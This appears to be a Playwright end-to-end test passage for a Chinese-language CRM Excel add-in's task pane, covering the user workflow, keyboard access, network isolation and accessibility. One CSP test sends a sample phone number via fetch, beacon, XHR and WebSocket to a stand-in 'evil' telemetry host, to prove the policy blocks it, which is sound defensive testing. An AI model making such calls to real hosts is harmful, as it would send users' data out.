// End-to-end: the PRODUCTION build of the task pane (dist/, `npm run build`) in headless Debian Chromium,
// driven by playwright-core, with the strict fake Excel (test/excel/fake-excel.ts) injected as the host.
//
// - dist/ is served by a tiny static server on 127.0.0.1 (random port). Office.js: the production page loads it
//   from Microsoft's CDN (OFFICE_CDN); the test fulfils every request under that address from the same file in
//   node_modules/@microsoft/office-js/dist (page.route, from disk), so nothing leaves the machine. An older build
//   that loads dist/office-js/office.js works too. Every other request must stay on the local origin.
// - The pane learns the host's display language and theme from window.__crmHostContext (see host-entry.ts),
//   standing in for Office.context.displayLanguage / officeTheme.
// - axe (@axe-core/playwright) checks every tab of the pane in Chinese, in English and in the dark theme: no
//   serious or critical violation.
// - host-entry.ts is bundled here with webpack's Node API and injected with page.addInitScript, together with
//   the workbook spec, so it runs before the page's own scripts; index.tsx then renders the pane with the real
//   Office.js actions over the fake (window.__crmTestHost), and the test inspects the book (window.__crmFake).
// - A user's path: set the as-of date, 校验 → click a finding → 应用标签 → 标记流失风险 → 生成复盘, asserting what
//   the pane shows and what the workbook holds after each step; a screenshot per step in test-artifacts/e2e/.
import fs from "fs";
import http from "http";
import os from "os";
import path from "path";
import { AxeBuilder } from "@axe-core/playwright";
import { chromium, type BrowserContext, type Locator, type Page } from "playwright-core";
import webpack from "webpack";
import { columnLetter, quoteSheet, runPipeline } from "../../src/core";
import { generateSample } from "../../scripts/sample";
import { LABELS, translate, type LabelKey, type Lang, type Vars } from "../../src/taskpane/i18n";
import { FINDINGS_SHEET, OWNED_COLUMNS, REVIEW_SHEET_PREFIX } from "../../src/workbook/owned";
import type { FakeExcel } from "../excel/fake-excel";
import { specOf } from "../excel/spec";
import { recordReliability } from "../reliability";

jest.setTimeout(120_000);

const ROOT = path.resolve(__dirname, "../..");
const DIST = path.join(ROOT, "dist");
const ARTIFACTS = path.join(ROOT, "test-artifacts", "e2e");
const CHROMIUM = process.env.CHROMIUM_PATH ?? "/usr/bin/chromium";
/** The flags this machine needs (no sandbox as root, no GPU, no background traffic to Google). */
const CHROMIUM_ARGS = [
  "--headless",
  "--no-sandbox",
  "--disable-gpu",
  "--disable-quic",
  "--no-first-run",
  "--disable-background-networking",
  "--disable-component-update",
  "--disable-sync",
];
const AS_OF = "2024-11-26";
/**
 * How long the page is watched after it loads before the request log is judged. office.js, loaded outside
 * Office, loads o15apptofilemappingtable.js, whose OSF.Logger frames a Microsoft telemetry page 3 s later
 * (setTimeout 3e3): a shorter run would pass only by finishing first.
 */
const OBSERVE_MS = 5_000;
/** Microsoft's Office.js CDN address (the production page's script), and the installed copy it is mapped to. */
const OFFICE_CDN = "https://appsforoffice.microsoft.com/lib/1/hosted/";
const OFFICE_JS_DIST = path.join(ROOT, "node_modules", "@microsoft", "office-js", "dist");
/** The frame office.js's OSF.Logger loads 3 s after the page (see OBSERVE_MS). */
const OFFICE_JS_TELEMETRY = "https://telemetryservice.firstpartyapps.oaspapps.com/telemetryservice/telemetryproxy.html";

// ── the workbook: the generated sample as Excel holds it (dates are serials), the orders sheet as a table ──


const sample = generateSample({ customers: 120, asOf: AS_OF });
const SPEC = specOf(sample.model, { 订单: "订单表" });
const expected = runPipeline(sample.model, AS_OF);
const customersTable = expected.tables.find((t) => t.kind === "customers" && t.used)!;

// ── labels exactly as the pane renders them (zh first; action buttons carry the English name too) ──

const zh = (key: LabelKey, vars?: Vars) => translate("zh", key, vars);
/** The accessible name of an ActionButton (src/taskpane/ui.tsx): "校验 Validate". */
const actionName = (key: LabelKey) => `${zh(key)} ${LABELS[key].en}`;

// ── the fake Excel host bundle ──

/** Bundles host-entry.ts (and the fake Excel it imports) for the browser, the way webpack.config.js transpiles. */
async function bundleHost(): Promise<string> {
  const out = fs.mkdtempSync(path.join(os.tmpdir(), "crm-e2e-host-"));
  try {
    const compiler = webpack({
      mode: "development",
      devtool: false,
      target: "web",
      context: ROOT,
      entry: path.join(__dirname, "host-entry.ts"),
      output: { path: out, filename: "host.js" },
      resolve: { extensions: [".ts", ".js"] },
      module: {
        rules: [
          {
            test: /\.tsx?$/,
            exclude: /node_modules/,
            use: { loader: "ts-loader", options: { transpileOnly: true, compilerOptions: { module: "es2020", sourceMap: false } } },
          },
        ],
      },
      performance: { hints: false },
      infrastructureLogging: { level: "error" },
    });
    const stats = await new Promise<webpack.Stats>((resolve, reject) => compiler.run((err, s) => (err || !s ? reject(err ?? new Error("webpack: no stats")) : resolve(s))));
    await new Promise<void>((resolve) => compiler.close(() => resolve()));
    if (stats.hasErrors()) throw new Error(`bundling test/e2e/host-entry.ts failed:\n${stats.toString("errors-only")}`);
    return fs.readFileSync(path.join(out, "host.js"), "utf8");
  } finally {
    fs.rmSync(out, { recursive: true, force: true });
  }
}

// ── dist/ over http on 127.0.0.1 ──

const MIME: Record<string, string> = {
  ".html": "text/html; charset=utf-8",
  ".js": "text/javascript; charset=utf-8",
  ".json": "application/json; charset=utf-8",
  ".xml": "application/xml; charset=utf-8",
  ".png": "image/png",
  ".css": "text/css; charset=utf-8",
};

/** Every path the server was asked for, and those dist/ does not hold. */
const served: string[] = [];
const notFound: string[] = [];

function serveDist(): Promise<{ server: http.Server; origin: string }> {
  const server = http.createServer((req, res) => {
    const pathname = decodeURIComponent(new URL(req.url ?? "/", "http://127.0.0.1").pathname);
    served.push(pathname);
    const file = path.join(DIST, pathname);
    if (!file.startsWith(DIST + path.sep) || req.method !== "GET") {
      res.writeHead(403).end();
      return;
    }
    fs.readFile(file, (err, data) => {
      if (err) {
        notFound.push(pathname);
        res.writeHead(404, { "Content-Type": "text/plain" }).end("not found");
        return;
      }
      res.writeHead(200, { "Content-Type": MIME[path.extname(file)] ?? "application/octet-stream", "Cache-Control": "no-store" }).end(data);
    });
  });
  return new Promise((resolve, reject) => {
    server.once("error", reject);
    server.listen(0, "127.0.0.1", () => {
      const addr = server.address();
      if (!addr || typeof addr === "string") return reject(new Error("no server address"));
      resolve({ server, origin: `http://127.0.0.1:${addr.port}` });
    });
  });
}

// ── the browser ──

type E2eWindow = Window & { __crmFake: FakeExcel };

let server: http.Server | undefined;
let origin = "";
let userDataDir: string | undefined;
let context: BrowserContext | undefined;
let page: Page;
const requests: string[] = [];
/** The same, seen by the page itself (page.on("request")), and any WebSocket it opens. */
const pageRequests: string[] = [];
/** The main page's requests not yet finished or failed. */
const pending = new Set<string>();
const webSockets: string[] = [];
/** Requests that failed (URL → Chromium's reason), and those that reached the test's route off the local origin. */
const failures = new Map<string, string>();
const routed: string[] = [];
/** CDN requests fulfilled from node_modules/@microsoft/office-js/dist (URL → file), and those it does not hold. */
const mappedCdn = new Map<string, string>();
const cdnMissing: string[] = [];

/** The installed copy of a file under OFFICE_CDN, or undefined (outside the CDN folder, a query, a missing file). */
function cdnFile(u: string): string | undefined {
  if (!u.startsWith(OFFICE_CDN)) return undefined;
  const url = new URL(u);
  if (url.search !== "" || url.hash !== "") return undefined;
  const file = path.join(OFFICE_JS_DIST, decodeURIComponent(url.pathname.slice(new URL(OFFICE_CDN).pathname.length)));
  return file.startsWith(OFFICE_JS_DIST + path.sep) && fs.existsSync(file) && fs.statSync(file).isFile() ? file : undefined;
}

/** Served without leaving the machine: the local origin, or a CDN file the test fulfilled from the installed copy. */
function staysLocal(u: string): boolean {
  return new URL(u).origin === origin || mappedCdn.has(u);
}

/** Loads the production pane in a page of the context, with the workbook, the fake host and the host's language/theme. */
async function openPane(p: Page, hostJs: string, hostContext?: { displayLanguage?: string; officeTheme?: { bodyBackgroundColor: string } }): Promise<void> {
  await p.addInitScript({ content: `window.__crmSpec = ${JSON.stringify(SPEC)};` });
  if (hostContext) await p.addInitScript({ content: `window.__crmHostContext = ${JSON.stringify(hostContext)};` });
  await p.addInitScript({ content: hostJs });
  p.on("pageerror", (e) => pageErrors.push(String(e)));
  await p.goto(`${origin}/taskpane.html`, { waitUntil: "load" });
}
let hostBundle = "";
let loadedAt = 0;
const pageErrors: string[] = [];
const consoleErrors: string[] = [];

/** Waits until `outcome` shows or the pane shows an error (then fails with the pane's message). */
async function settle(outcome: Locator): Promise<void> {
  const alert = page.getByRole("alert");
  await outcome.or(alert).first().waitFor();
  if ((await alert.count()) > 0) throw new Error(`the pane shows an error: ${await alert.first().innerText()}`);
  await page.locator('main[aria-busy="false"]').waitFor();
}

/**
 * Waits until the page has been open OBSERVE_MS, then until none of its requests is pending and none started for
 * QUIET_MS. (Playwright's "networkidle" load state is not used: once the telemetry frame office.js tries to open has
 * been refused by the CSP, a later request — e.g. the dashboard's chunk — can leave it unreached for good.)
 */
async function watchedLongEnough(): Promise<void> {
  const left = loadedAt + OBSERVE_MS - Date.now();
  if (left > 0) await page.waitForTimeout(left);
  const deadline = Date.now() + 20_000;
  let seen = -1;
  let quietSince = Date.now();
  for (;;) {
    if (pending.size > 0 || pageRequests.length !== seen) {
      seen = pageRequests.length;
      quietSince = Date.now();
    } else if (Date.now() - quietSince >= QUIET_MS) {
      return;
    }
    if (Date.now() > deadline) throw new Error(`the page's network never went quiet; still pending: ${JSON.stringify([...pending])}`);
    await page.waitForTimeout(100);
  }
}
const QUIET_MS = 1_000;

let shot = 0;
/** A viewport screenshot of the pane into test-artifacts/e2e/NN-step.png; returns its size in bytes. */
async function screenshot(step: string, focus?: Locator): Promise<number> {
  shot += 1;
  if (focus) await focus.scrollIntoViewIfNeeded();
  const file = path.join(ARTIFACTS, `${String(shot).padStart(2, "0")}-${step}.png`);
  await page.screenshot({ path: file });
  return fs.statSync(file).size;
}

beforeAll(async () => {
  if (!fs.existsSync(path.join(DIST, "taskpane.html"))) {
    throw new Error("dist/taskpane.html is missing: run npm run build first (the end-to-end test drives the production build in dist/)");
  }
  if (fs.readdirSync(DIST).some((f) => f.endsWith(".js.map"))) {
    throw new Error("dist/ holds a development build (source maps): run npm run build first (the end-to-end test drives the production build)");
  }
  if (!fs.existsSync(CHROMIUM)) throw new Error(`${CHROMIUM} is missing: run npm run setup (installs Debian's chromium)`);

  fs.rmSync(ARTIFACTS, { recursive: true, force: true });
  fs.mkdirSync(ARTIFACTS, { recursive: true });
  const [hostJs, http127] = await Promise.all([bundleHost(), serveDist()]);
  hostBundle = hostJs;
  server = http127.server;
  origin = http127.origin;

  userDataDir = fs.mkdtempSync(path.join(os.tmpdir(), "crm-e2e-chromium-"));
  context = await chromium.launchPersistentContext(userDataDir, {
    executablePath: CHROMIUM,
    headless: true,
    args: CHROMIUM_ARGS,
    viewport: { width: 360, height: 900 },
    locale: "zh-CN",
  });
  context.setDefaultTimeout(20_000);
  context.on("request", (r) => requests.push(r.url()));
  context.on("requestfailed", (r) => failures.set(r.url(), r.failure()?.errorText ?? ""));
  // Anything off the local origin is recorded above and then refused, so the assertion below is the only judge.
  await context.route((url) => url.origin !== origin, (route) => {
    routed.push(route.request().url());
    return route.abort("blockedbyclient");
  });
  // Registered last, so it is asked first: Office.js from the CDN address, fulfilled from the installed copy.
  await context.route((url) => url.href.startsWith(OFFICE_CDN), (route) => {
    const u = route.request().url();
    const file = cdnFile(u);
    if (!file) {
      cdnMissing.push(u);
      return route.fulfill({ status: 404, contentType: "text/plain", body: "not in @microsoft/office-js/dist" });
    }
    mappedCdn.set(u, file);
    return route.fulfill({ status: 200, path: file, contentType: MIME[path.extname(file)] ?? "application/octet-stream" });
  });

  page = context.pages()[0] ?? (await context.newPage());
  // Before the page's own scripts: the workbook, then the fake Excel host built from it.
  await page.addInitScript({ content: `window.__crmSpec = ${JSON.stringify(SPEC)};` });
  await page.addInitScript({ content: hostJs });
  page.on("request", (r) => {
    pageRequests.push(r.url());
    pending.add(r.url());
  });
  page.on("requestfinished", (r) => pending.delete(r.url()));
  page.on("requestfailed", (r) => pending.delete(r.url()));
  page.on("websocket", (ws) => webSockets.push(ws.url()));
  page.on("pageerror", (e) => pageErrors.push(String(e)));
  page.on("console", (m) => m.type() === "error" && consoleErrors.push(m.text()));
  await page.goto(`${origin}/taskpane.html`, { waitUntil: "load" });
  loadedAt = Date.now();
  await page.getByRole("heading", { name: zh("app.title") }).waitFor();
});

afterAll(async () => {
  await context?.close().catch(() => undefined);
  if (userDataDir) fs.rmSync(userDataDir, { recursive: true, force: true });
  if (server) await new Promise<void>((resolve) => server!.close(() => resolve()));
});

describe("the production task pane in Chromium over the fake Excel", () => {
  test("renders Chinese with a CJK font, connected to the injected workbook", async () => {
    expect(await page.evaluate(() => document.fonts.check('16px "WenQuanYi Zen Hei"'))).toBe(true);
    // fonts.check is also true for a font that is not installed at all, so ask Chromium which platform
    // fonts it really used for the title "CRM 工作台".
    const cdp = await context!.newCDPSession(page);
    await cdp.send("DOM.enable");
    await cdp.send("CSS.enable");
    const { root } = await cdp.send("DOM.getDocument", { depth: -1 });
    const { nodeId } = await cdp.send("DOM.querySelector", { nodeId: root.nodeId, selector: "h1" });
    const { fonts } = await cdp.send("CSS.getPlatformFontsForNode", { nodeId });
    await cdp.detach();
    expect(fonts.map((f) => f.familyName)).toEqual(expect.arrayContaining([expect.stringMatching(/WenQuanYi/)]));
    // The pane has the workbook: no "open this in Excel" banner, the actions are enabled.
    await expect(page.getByText(zh("app.noExcel.title")).count()).resolves.toBe(0);
    await expect(page.getByRole("button", { name: actionName("action.validate") }).isEnabled()).resolves.toBe(true);
  });

  test("validate → apply → highlight → review, seen in the pane and in the workbook", async () => {
    // Runs `fn` on the fake's book inspector in the page (page.evaluate ships functions as source text, so the
    // inspector is handed in there); `fn` may use only its arguments.
    const book = <T, A>(fn: (b: FakeExcel["book"], arg: A) => T, arg: A): Promise<T> =>
      page.evaluate(({ src, arg }) => new Function("b", "arg", `return (${src})(b, arg);`)((window as unknown as E2eWindow).__crmFake.book, arg) as T, { src: fn.toString(), arg });

    // The as-of date, as a user types it, so every number below is deterministic.
    await page.getByLabel(zh("asOf.label")).fill(AS_OF);
    await expect(page.getByLabel(zh("asOf.label")).inputValue()).resolves.toBe(AS_OF);

    // ── 校验 ──
    const untouched = await book((b) => JSON.stringify(b.snapshot()), null);
    await page.getByRole("button", { name: actionName("action.validate") }).click();
    const summary = page.getByRole("heading", { name: zh("validate.summary", { asOf: AS_OF, rows: expected.summary.rows }) });
    await settle(page.getByTestId("count-errors"));
    await summary.waitFor();
    await expect(page.getByTestId("count-errors").innerText()).resolves.toBe(`${zh("validate.errors")} ${expected.summary.errors}`);
    await expect(page.getByTestId("count-warnings").innerText()).resolves.toBe(`${zh("validate.warnings")} ${expected.summary.warnings}`);
    await expect(page.getByTestId("count-infos").innerText()).resolves.toBe(`${zh("validate.infos")} ${expected.summary.infos}`);
    await expect(page.getByText(zh("validate.shown", { shown: expected.findings.length, total: expected.findings.length })).count()).resolves.toBe(1);
    expect(await screenshot("validate", summary)).toBeGreaterThan(10_000);
    // Validating reads only.
    expect(await book((b) => JSON.stringify(b.snapshot()), null)).toBe(untouched);

    // The dashboard (its chunk loads on first use): the funnel's segments carry the engine's counts by stage, the
    // churn-risk list the engine's count, and a customer in it selects the customer's row.
    const funnel = page.getByTestId("dashboard-stages");
    await funnel.locator("svg [role=option]").first().waitFor();
    const segments = await funnel.locator("svg [role=option]").evaluateAll((els) => els.map((e) => e.getAttribute("aria-label") ?? ""));
    expect(segments.length).toBeGreaterThan(1);
    for (const label of segments) {
      const m = /^(.+), (\d+)\.$/.exec(label);
      expect(m).not.toBeNull();
      expect({ stage: m![1], count: Number(m![2]) }).toEqual({ stage: m![1], count: expected.customers.filter((c) => c.stage === m![1]).length });
    }
    const atRisk = expected.customers.filter((c) => c.riskLevel === "高");
    expect(atRisk.length).toBeGreaterThan(0);
    const riskList = page.getByTestId("dashboard-at-risk");
    await expect(riskList.getByRole("heading").innerText()).resolves.toBe(zh("dash.atRisk", { n: atRisk.length }));
    const firstRisk = riskList.getByRole("listitem").first();
    const riskAddress = (await firstRisk.getAttribute("data-address"))!;
    await firstRisk.click();
    await page.waitForFunction((a) => (window as unknown as E2eWindow).__crmFake.book.selection().endsWith(a.slice(a.lastIndexOf("!"))), riskAddress);
    expect(atRisk.map((c) => `${quoteSheet(c.sheet)}!A${c.row}`)).toContain(riskAddress);
    await page.getByTestId("dashboard").scrollIntoViewIfNeeded();
    await page.screenshot({ path: path.join(ARTIFACTS, "validate-dashboard.png") });

    // A finding selects its cell: pick one on a sheet other than the active one, so activation is proven too.
    const active = await book((b) => b.activeSheet(), null);
    const shownAddresses = await page.getByTestId("findings").locator("[data-address]").evaluateAll((els) => els.map((e) => e.getAttribute("data-address") ?? ""));
    const target = expected.findings.find((f) => f.address !== "" && f.sheet !== active && shownAddresses.includes(f.address)) ?? expected.findings.find((f) => shownAddresses.includes(f.address))!;
    const ref = target.address.slice(target.address.lastIndexOf("!") + 1).replace(/\$/g, "");
    await page.getByTestId("findings").getByRole("listitem", { name: zh("validate.goto", { address: target.address, message: "" }) }).first().click();
    await page.waitForFunction((sheet) => (window as unknown as E2eWindow).__crmFake.book.activeSheet() === sheet, target.sheet);
    expect(await book((b) => b.activeSheet(), null)).toBe(target.sheet);
    expect(await book((b) => b.selection(), null)).toMatch(new RegExp(`!${ref}$`));
    process.stdout.write(`e2e: clicked the finding ${target.code} ${target.address} (active sheet was ${active}) → the book selects ${await book((b) => b.selection(), null)}\n`);
    expect(await page.getByRole("alert").count()).toBe(0);

    // The book as the user has it before the add-in writes anything (the finding's cell selected).
    const beforeOutput = await book((b) => JSON.stringify(b.snapshot()), null);

    // ── 应用标签 ──
    await page.getByRole("tab", { name: zh("tab.apply") }).click();
    await page.getByRole("button", { name: actionName("action.applyTags") }).click();
    const applied = page.getByTestId("apply-outcome");
    await settle(applied);
    const appliedText = await applied.innerText();
    expect(appliedText).toContain(zh("apply.done", { customers: expected.customers.length }));
    expect(appliedText).toContain(zh("apply.asOf", { asOf: AS_OF }));
    expect(appliedText).toContain(zh("apply.findings", { n: expected.findings.length }));
    // The first apply records every customer in the history sheet CRM变更历史.
    expect(appliedText).toContain(zh("apply.history", { n: expected.historyAppend().length }));
    expect(expected.customers).toHaveLength(120);
    expect(await screenshot("apply", applied)).toBeGreaterThan(10_000);

    const sheet = customersTable.sheet;
    const header = (await book((b, a) => b.values(a.sheet, `A${a.row}:ZZ${a.row}`)[0], { sheet, row: customersTable.headerRow })).map(String);
    for (const c of OWNED_COLUMNS) expect(header).toContain(c.header);
    const stageCol = columnLetter(header.indexOf(OWNED_COLUMNS.find((c) => c.key === "stage")!.header) + 1);
    const lastCol = columnLetter(header.indexOf(OWNED_COLUMNS[OWNED_COLUMNS.length - 1].header) + 1);
    expect(appliedText).toContain(zh("apply.range", { range: `${quoteSheet(sheet)}!${stageCol}${customersTable.headerRow}:${lastCol}${customersTable.lastRow}` }));
    const rows = expected.customers.map((c) => c.row);
    const top = Math.min(...rows);
    const stages = (await book((b, a) => b.values(a.sheet, a.ref), { sheet, ref: `${stageCol}${top}:${stageCol}${Math.max(...rows)}` })).map((r) => r[0]);
    for (const c of expected.customers) expect({ row: c.row, stage: stages[c.row - top] }).toEqual({ row: c.row, stage: c.stage });
    expect(await book((b) => b.sheetNames(), null)).toContain(FINDINGS_SHEET);

    // ── 标记流失风险 ──
    await page.getByRole("button", { name: actionName("action.highlightRisk") }).click();
    const highlighted = page.getByTestId("highlight-outcome");
    await settle(highlighted);
    const count = (stage: string) => expected.customers.filter((c) => c.stage === stage).length;
    const highlightText = await highlighted.innerText();
    expect(highlightText).toContain(`${zh("highlight.atRisk")} ${count("流失风险客户")}`);
    expect(highlightText).toContain(`${zh("highlight.churned")} ${count("流失客户")}`);
    expect(highlightText).toContain(`${zh("highlight.overdue")} ${expected.customers.filter((c) => c.overdue).length}`);
    expect(highlightText).toContain(zh("highlight.rules", { n: 3 }));
    expect(await screenshot("highlight", highlighted)).toBeGreaterThan(10_000);
    const rules = await book((b, s) => b.conditionalFormats(s).filter((cf) => String(cf.formula ?? "").includes("CRM◆")), sheet);
    expect(rules).toHaveLength(3);

    // ── 生成复盘 ──
    await page.getByRole("tab", { name: zh("tab.review") }).click();
    await page.getByRole("button", { name: actionName("action.buildReview") }).click();
    const reviewed = page.getByTestId("review-outcome");
    await settle(reviewed);
    const pivots = await book((b) => b.pivotTables(), null);
    const charts = await book((b) => b.charts(), null);
    const names = await book((b) => b.sheetNames(), null);
    expect(pivots).toHaveLength(2);
    expect(charts.length).toBeGreaterThanOrEqual(2);
    const reviewText = await reviewed.innerText();
    expect(reviewText).toContain(zh("review.pivots", { n: pivots.length }));
    expect(reviewText).toContain(zh("review.charts", { n: charts.length }));
    expect(reviewText).not.toContain(zh("review.fallback.title"));
    const listed = await reviewed.getByRole("listitem").allInnerTexts();
    expect(listed.length).toBeGreaterThan(0);
    for (const name of listed) {
      expect(name.startsWith(REVIEW_SHEET_PREFIX)).toBe(true);
      expect(names).toContain(name);
    }
    expect(reviewText).toContain(zh("review.sheets", { n: listed.length }));
    expect(await screenshot("review", reviewed)).toBeGreaterThan(10_000);
    expect(await page.getByRole("alert").count()).toBe(0);

    // ── 移除 CRM 结果: asked first, then the book is the user's again ──
    await page.getByRole("tab", { name: zh("tab.apply") }).click();
    await page.getByRole("button", { name: actionName("action.removeOutput") }).click();
    const confirm = page.getByTestId("remove-confirm");
    await confirm.waitFor();
    expect(await screenshot("remove-confirm", confirm)).toBeGreaterThan(10_000);
    expect(await book((b) => JSON.stringify(b.snapshot()), null)).not.toBe(beforeOutput);
    await page.getByRole("button", { name: zh("remove.confirm"), exact: true }).click();
    const removed = page.getByTestId("remove-outcome");
    await settle(removed);
    // The review sheets, the findings sheet and the history sheet (not kept: the box was left unticked).
    expect(await removed.innerText()).toBe(zh("remove.done", { columns: OWNED_COLUMNS.length, rules: 3, sheets: listed.length + 2 }));
    expect(await book((b) => JSON.stringify(b.snapshot()), null)).toBe(beforeOutput);
    expect(await screenshot("removed", removed)).toBeGreaterThan(10_000);
    expect(await page.getByRole("alert").count()).toBe(0);
  });

  test("keyboard only: Tab reaches 校验 and a finding; Enter runs it and selects the finding's cell", async () => {
    await page.getByRole("tab", { name: zh("tab.validate") }).click();
    await page.evaluate(() => (document.activeElement as HTMLElement | null)?.blur());
    const focused = () =>
      page.evaluate(() => ({
        text: document.activeElement?.textContent ?? "",
        address: document.activeElement?.getAttribute("data-address") ?? "",
        inFindings: !!document.activeElement?.closest("[data-testid=findings]"),
        index: [...document.querySelectorAll("[data-testid=findings] [role=listitem]")].indexOf(document.activeElement as Element),
      }));
    let steps = 0;
    for (; steps < 60 && !(await focused()).text.startsWith(zh("action.validate")); steps++) await page.keyboard.press("Tab");
    expect((await focused()).text.startsWith(zh("action.validate"))).toBe(true);
    await page.keyboard.press("Enter");
    await page.getByTestId("count-errors").waitFor();
    for (steps = 0; steps < 120 && !(await focused()).inFindings; steps++) await page.keyboard.press("Tab");
    expect(await focused()).toMatchObject({ inFindings: true, index: 0 });
    // The findings are one List: arrow keys move between them, one Tab leaves the whole list.
    await page.keyboard.press("ArrowDown");
    expect((await focused()).index).toBe(1);
    await page.keyboard.press("ArrowDown");
    expect((await focused()).index).toBe(2);
    await page.keyboard.press("ArrowUp");
    expect((await focused()).index).toBe(1);
    await page.keyboard.press("Tab");
    expect((await focused()).inFindings).toBe(false);
    await page.keyboard.press("Shift+Tab");
    expect(await focused()).toMatchObject({ inFindings: true, index: 1 });
    const { address } = await focused();
    expect(address).not.toBe("");
    await page.keyboard.press("Enter");
    const sheet = address.slice(0, address.lastIndexOf("!")).replace(/^'(.*)'$/, "$1").replace(/''/g, "'");
    await page.waitForFunction((s) => (window as unknown as E2eWindow).__crmFake.book.activeSheet() === s, sheet);
    const ref = address.slice(address.lastIndexOf("!") + 1);
    expect(await page.evaluate(() => (window as unknown as E2eWindow).__crmFake.book.selection())).toMatch(new RegExp(`!${ref}$`));
  });

  test("the page asked only for the add-in's own files — no telemetry, nothing off the local origin — without errors", async () => {
    await watchedLongEnough();
    const isLocal = staysLocal;
    process.stdout.write(`e2e: the page made ${requests.length} request(s):\n${requests.map((u) => `  ${new URL(u).origin === origin ? "" : mappedCdn.has(u) ? "CDN→node_modules " : "REFUSED "}${u}`).join("\n")}\n` +
        `e2e: console errors: ${consoleErrors.length === 0 ? "none" : `\n  ${consoleErrors.join("\n  ")}`}\n`);
    // office.js's logger frames OFFICE_JS_TELEMETRY outside Office; taskpane.html's CSP (frame-src 'self') blocks
    // it before any request is made.
    expect(requests.filter((u) => !isLocal(u))).toEqual([]);
    expect(requests).not.toContain(OFFICE_JS_TELEMETRY);
    expect(requests.map((u) => new URL(u).pathname)).toEqual(expect.arrayContaining(["/taskpane.html", "/runtime.js", "/taskpane.js", "/commands.js", "/functions.js"]));
    // Office.js: from the CDN address (mapped to the installed copy) or, in an older build, from dist/office-js.
    const officeJs = requests.filter((u) => u === `${OFFICE_CDN}office.js` || u === `${origin}/office-js/office.js`);
    expect(officeJs.length).toBeGreaterThan(0);
    if (officeJs.some((u) => u.startsWith(OFFICE_CDN))) expect(mappedCdn.get(`${OFFICE_CDN}office.js`)).toBe(path.join(OFFICE_JS_DIST, "office.js"));
    else expect(served).toContain("/office-js/office.js");
    process.stdout.write(`e2e: Office.js loaded from ${officeJs[0]}${mappedCdn.size > 0 ? ` (${mappedCdn.size} CDN file(s) fulfilled from node_modules/@microsoft/office-js/dist)` : ""}\n`);
    // Server side: every file asked for is in dist/; every CDN file asked for is in the installed Office.js.
    expect(notFound).toEqual([]);
    expect(cdnMissing).toEqual([]);
    expect(pageErrors).toEqual([]);
  });

  // Issue 8, "Privacy and security": through every scenario above (load, validate, apply, highlight, review,
  // keyboard), the page's own request log — page.on("request"), beside the context's — holds only files of the
  // add-in: same origin, GET of a file that is in the served dist/, no WebSocket, nothing else.
  test("every request the page made through all the scenarios is one of the add-in's own files in dist/", async () => {
    await watchedLongEnough();
    const distFile = (u: string) => {
      const url = new URL(u);
      if (url.origin !== origin || url.search !== "" || url.hash !== "") return false;
      const file = path.join(DIST, decodeURIComponent(url.pathname));
      return file.startsWith(DIST + path.sep) && fs.existsSync(file) && fs.statSync(file).isFile();
    };
    const ownFile = (u: string) => distFile(u) || (mappedCdn.has(u) && cdnFile(u) !== undefined);
    const foreign = [...pageRequests, ...webSockets].filter((u) => !ownFile(u));
    recordReliability("e2e-network", {
      group: "privacy and security",
      what: "任务窗格页面发出的请求（全部场景） requests the task pane page made through every E2E scenario",
      tried: pageRequests.length + webSockets.length,
      failed: foreign.length,
      where: "test/e2e/pane.e2e.test.ts (production build in Chromium)",
    });
    expect(pageRequests.length).toBeGreaterThanOrEqual(6);
    expect(foreign).toEqual([]);
    expect(webSockets).toEqual([]);
    // The context saw nothing the page did not (no worker or popup of its own went elsewhere).
    expect(requests.filter((u) => !ownFile(u))).toEqual([]);
  });

  test("the page's Content-Security-Policy: connect-src 'self', enforced by Chromium before any request leaves", async () => {
    const policy = await page.evaluate(() => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute("content") ?? "");
    const directives = new Map(policy.split(";").map((d) => d.trim().split(/\s+/)).filter((d) => d[0]).map(([name, ...src]) => [name, src]));
    expect(directives.get("connect-src")).toEqual(["'self'"]);
    expect(directives.get("frame-src")).toEqual(["'self'"]);
    // Now try to send data out the ways a script would: the browser refuses each one by the policy, so the
    // request log does not grow (the context's route would only have refused them after they were made).
    const before = requests.length;
    const blocked = await page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener("securitypolicyviolation", (e) => violations.push(`${e.effectiveDirective} ${e.blockedURI}`));
      const attempts: string[] = [];
      await fetch("https://telemetry.evil.example/collect?phone=13812345678").catch((e) => attempts.push(`fetch: ${String(e)}`));
      attempts.push(`beacon: ${navigator.sendBeacon("https://telemetry.evil.example/beacon", "13812345678")}`);
      await new Promise<void>((resolve) => {
        const x = new XMLHttpRequest();
        x.onloadend = () => resolve();
        try {
          x.open("POST", "https://telemetry.evil.example/xhr");
          x.send("13812345678");
        } catch (e) {
          attempts.push(`xhr: ${String(e)}`);
          resolve();
        }
      });
      try {
        new WebSocket("wss://telemetry.evil.example/ws");
      } catch (e) {
        attempts.push(`ws: ${String(e)}`);
      }
      await new Promise((resolve) => setTimeout(resolve, 200));
      return { violations, attempts };
    });
    process.stdout.write(`e2e: outside connections tried from the page: ${JSON.stringify(blocked)}\n`);
    expect(blocked.violations.filter((v) => v.startsWith("connect-src")).length).toBeGreaterThanOrEqual(3);
    // Chromium reports the XHR as a request that failed with "csp": refused by the policy, it never reached the
    // network layer (the test's route, which would refuse anything off the local origin, saw nothing all run).
    const outside = requests.slice(before).filter((u) => !staysLocal(u));
    expect(outside.map((u) => [u, failures.get(u)]).filter(([, why]) => why !== "csp")).toEqual([]);
    expect(routed).toEqual([]);
    expect(webSockets).toEqual([]);
  });
});

// Issue 17: axe-core on every tab of the pane, after its action ran (so the dashboard, the findings List, the
// outcomes and the rules table are on screen), in Chinese, in English and in the dark theme (Office's Dark Gray,
// body #262626). Serious and critical violations fail; every violation found is printed with its targets.
//
// One exception, node by node: aria-hidden-focus on Tabster's focus sentinels (`<i tabindex=0 aria-hidden=true
// data-tabster-dummy>`, which Fluent UI v9 puts around TabLists, Lists and charts). They are focusable on purpose
// and hand focus on the moment they get it; without aria-hidden screen readers would announce them. Tabster's
// maintainers call the rule's hit on them intended (microsoft/tabster#288) and Microsoft's Accessibility Insights
// suppresses exactly these nodes (accessibility-insights-web#7605). Only nodes carrying data-tabster-dummy are
// dropped; any other aria-hidden-focus node still fails.
const isTabsterDummy = (html: string) => /^<i\b[^>]*\bdata-tabster-dummy\b/.test(html);
describe("accessibility: axe on every tab, both languages, light and dark", () => {
  const configs: { lang: Lang; theme: "light" | "dark"; displayLanguage: string; body: string }[] = [
    { lang: "zh", theme: "light", displayLanguage: "zh-CN", body: "#ffffff" },
    { lang: "en", theme: "light", displayLanguage: "en-US", body: "#ffffff" },
